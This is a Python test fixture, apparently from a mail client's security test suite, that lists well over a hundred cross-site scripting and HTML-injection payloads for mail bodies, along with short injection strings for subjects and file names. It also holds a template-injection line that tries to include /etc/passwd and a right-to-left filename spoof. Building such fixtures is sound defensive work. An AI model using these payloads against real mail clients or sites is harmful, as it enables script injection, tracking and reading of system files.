# ruff: noqa: E501
"""What attackers write into a mail (S6): HTML bodies, and words for names and subjects."""

SCRIPT = "alert(document.domain)"
REMOTE = "http://tracker.invalid/hit"

_PLAIN = (
    f"""
<script>{SCRIPT}</script>
<SCRIPT SRC={REMOTE}></SCRIPT>
<scr<script>ipt>{SCRIPT}</scr</script>ipt>
<script/x>{SCRIPT}</script>
<script>{SCRIPT}
<svg onload={SCRIPT}>
<svg/onload={SCRIPT}>
<svg><script>{SCRIPT}</script></svg>
<svg><script href="data:,{SCRIPT}"/></svg>
<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{SCRIPT}"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={SCRIPT} /></svg>#x"/></svg>
<svg><foreignObject><iframe src="javascript:{SCRIPT}"></iframe></foreignObject></svg>
<svg><style><img src=x onerror={SCRIPT}></style></svg>
<svg></p><style><a id="</style><img src=1 onerror={SCRIPT}>">
<svg><image href={REMOTE}></svg>
<svg><set attributeName=onmouseover to={SCRIPT}>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror={SCRIPT}>"></style></h1>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>
<math><annotation-xml encoding="text/html"><p/><style><img src onerror={SCRIPT}></style></annotation-xml></math>
<math href="javascript:{SCRIPT}">x</math>
<math><mi xlink:href="javascript:{SCRIPT}">x</mi></math>
<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">
<noembed><p title="</noembed><img src=x onerror={SCRIPT}>">
<noframes><p title="</noframes><img src=x onerror={SCRIPT}>">
<xmp><p title="</xmp><img src=x onerror={SCRIPT}>">
<title><p title="</title><img src=x onerror={SCRIPT}>">
<textarea><p title="</textarea><img src=x onerror={SCRIPT}>">
<style><p title="</style><img src=x onerror={SCRIPT}>">
<plaintext><img src=x onerror={SCRIPT}>
<template><img src=x onerror={SCRIPT}></template>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={SCRIPT}>">
<table><td><svg><desc><td></desc></svg><img src=x onerror={SCRIPT}>
<img src=x onerror={SCRIPT}>
<img src=x onerror="{SCRIPT}"
<img src=`x`onerror={SCRIPT}>
<img/src/onerror={SCRIPT}>
<img src=x:x onerror\x0c={SCRIPT}>
<img """
    + f"""\"\"\"><script>{SCRIPT}</script>">
<img src="javascript:{SCRIPT}">
<img dynsrc="javascript:{SCRIPT}">
<img lowsrc={REMOTE}>
<img srcset="{REMOTE} 1x">
<img src={REMOTE}>
<img src=//tracker.invalid/hit>
<img src="\\\\tracker.invalid\\hit">
<img src="/sign-out/">
<img src="data:image/svg+xml,<svg onload={SCRIPT}>">
<image src=x onerror={SCRIPT}>
<input type=image src={REMOTE} onerror={SCRIPT}>
<input autofocus onfocus={SCRIPT}>
<button formaction="javascript:{SCRIPT}">x</button>
<form action="javascript:{SCRIPT}"><input type=submit></form>
<form action={REMOTE}><input name=a></form>
<isindex action="javascript:{SCRIPT}">
<keygen autofocus onfocus={SCRIPT}>
<select autofocus onfocus={SCRIPT}>
<textarea autofocus onfocus={SCRIPT}>
<details open ontoggle={SCRIPT}>
<marquee onstart={SCRIPT}>x</marquee>
<body onload={SCRIPT}>
<body background={REMOTE}>
<frameset onload={SCRIPT}>
<iframe src="javascript:{SCRIPT}"></iframe>
<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>
<iframe src={REMOTE}></iframe>
<frame src={REMOTE}>
<object data="javascript:{SCRIPT}"></object>
<object data={REMOTE}></object>
<object type=text/x-scriptlet data={REMOTE}></object>
<embed src="javascript:{SCRIPT}">
<embed src={REMOTE}>
<applet code=x archive={REMOTE}></applet>
<video src={REMOTE} onerror={SCRIPT}></video>
<video><source onerror={SCRIPT}></video>
<video poster={REMOTE}></video>
<audio src={REMOTE} onerror={SCRIPT}></audio>
<track src={REMOTE}>
<link rel=stylesheet href={REMOTE}>
<link rel=import href={REMOTE}>
<link rel=prefetch href={REMOTE}>
<link rel=dns-prefetch href=//tracker.invalid>
<meta http-equiv=refresh content="0;url={REMOTE}">
<meta http-equiv=refresh content="0;url=javascript:{SCRIPT}">
<meta charset=utf-7>+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-
<base href={REMOTE}><img src=x>
<base target=_self href="javascript:{SCRIPT}//">
<style>@import "{REMOTE}";</style>
<style>body{{background:url({REMOTE})}}</style>
<style>@font-face{{font-family:x;src:url({REMOTE})}}*{{font-family:x}}</style>
<style>*{{position:fixed;inset:0}}</style>
<div style="background:url({REMOTE})">x</div>
<div style="background:url(&#x6a;avascript:{SCRIPT})">x</div>
<div style="width:expression({SCRIPT})">x</div>
<div style="behavior:url({REMOTE})">x</div>
<div style="-moz-binding:url({REMOTE})">x</div>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</div>
<table background={REMOTE}><td background={REMOTE}>x</table>
<a href="javascript:{SCRIPT}">x</a>
<a href="JaVaScRiPt:{SCRIPT}">x</a>
<a href="java&#10;script:{SCRIPT}">x</a>
<a href="java&Tab;script:{SCRIPT}">x</a>
<a href="&#1;javascript:{SCRIPT}">x</a>
<a href=" &#14; javascript:{SCRIPT}">x</a>
<a href="&#106;&#97;vascript:{SCRIPT}">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>{SCRIPT}</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:http://x/1">x</a>
<a href="filesystem:http://x/1">x</a>
<a href=x ping={REMOTE}>x</a>
<a href=x onclick={SCRIPT}>x</a>
<a href="http://x/\" onmouseover={SCRIPT}">x</a>
<a href='x' x="' onmouseover='{SCRIPT}'">x</a>
<p id=x onclick={SCRIPT}>x</p>
<p hx-get="/" hx-trigger=load>x</p>
<p data-hx-get="/" data-hx-trigger=load data-show-mail=x>x</p>
<div contenteditable oninput={SCRIPT}>x</div>
<x onclick={SCRIPT} tabindex=1 id=x autofocus onfocus={SCRIPT}>x
<x:script xmlns:x="http://www.w3.org/1999/xhtml">{SCRIPT}</x:script>
<?xml-stylesheet href="javascript:{SCRIPT}"?>
<?php echo 1 ?><img src=x onerror={SCRIPT}>
<![CDATA[<img src=x onerror={SCRIPT}>]]>
<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]-->
<!-- --!><img src=x onerror={SCRIPT}> -->
<!--><img src=x onerror={SCRIPT}>-->
<!-<img src=x onerror={SCRIPT}>
</body></html><script>{SCRIPT}</script>
</span></div></article><script>{SCRIPT}</script>
</iframe><script>{SCRIPT}</script>
</template><script>{SCRIPT}</script>
<img src="cid:x&quot; onerror=&quot;{SCRIPT}">
<img src="cid:../../../sign-out/">
<img src="cid:x" alt="&quot;><script>{SCRIPT}</script>">
<img data-remote-src="javascript:{SCRIPT}">
<img data-remote-src="http://x/&quot; onerror=&quot;{SCRIPT}">
<dialog open><form method=dialog><button formaction="javascript:{SCRIPT}">x</button></form></dialog>
<portal src={REMOTE}></portal>
<slot onslotchange={SCRIPT}>x</slot>
<custom-element onclick={SCRIPT}>x</custom-element>
<listing>&lt;img src=x onerror={SCRIPT}&gt;</listing>
<b <script>{SCRIPT}</script>>x</b>
<<SCRIPT>{SCRIPT}//<</SCRIPT>
<a title="`<script>{SCRIPT}</script>`">x</a>
%3Cscript%3E{SCRIPT}%3C/script%3E
&lt;script&gt;{SCRIPT}&lt;/script&gt;
{{{{7*7}}}}{{% include "/etc/passwd" %}}
"""
)

PAYLOADS = [line for line in _PLAIN.strip().splitlines() if line]

# For subjects, names and file names: one line, no mail header may break.
WORDS = [
    f"<script>{SCRIPT}</script>", f'"><img src=x onerror={SCRIPT}>', f"'-{SCRIPT}-'",
    f"</title><script>{SCRIPT}</script>", "{{7*7}}{% raw %}", f"javascript:{SCRIPT}",
    f"<svg/onload={SCRIPT}>", f"</textarea><script>{SCRIPT}</script>",
    f'" autofocus onfocus="{SCRIPT}', f"<img src={REMOTE}>", "\u202egnp.exe",
]  # fmt: skip
